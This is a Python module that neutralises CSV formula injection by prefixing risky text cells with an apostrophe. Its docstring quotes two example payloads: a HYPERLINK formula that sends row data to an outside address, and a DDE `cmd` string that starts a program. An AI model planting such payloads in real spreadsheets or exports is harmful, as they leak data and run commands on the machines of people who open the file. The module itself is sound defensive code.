"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Excel and LibreOffice read a cell that begins with `=` as a formula, and Excel also one that
begins with `+`, `-` or `@` (and, after a tab or a carriage return, the same again); in an East
Asian Excel a full-width `＝＋－＠` can count too. A note such as `=HYPERLINK("http://…?"&A1)`
would send the row away when the file is opened, and `+cmd|' /C calc'!A0` start a program. So
every CSV Companion writes (the export, `companion list --format csv`, the charts' *Save data as
CSV*) passes each text cell through `safe_cell`: one that begins with such a character gets a
leading apostrophe, the usual way of saying "this is text" (OWASP's advice on CSV injection).
The text after the apostrophe is exactly what was written; a plain number such as `-3` or
`+0.5` is left as it is, since a spreadsheet reads it as the number it is and runs nothing.
Numbers, booleans and empty cells are never touched. Companion does not read CSV back: the
JSON export is the one that imports.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """`value`, with a leading apostrophe when it is text a spreadsheet would evaluate."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and _PLAIN_NUMBER.fullmatch(value) is None
    ):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]
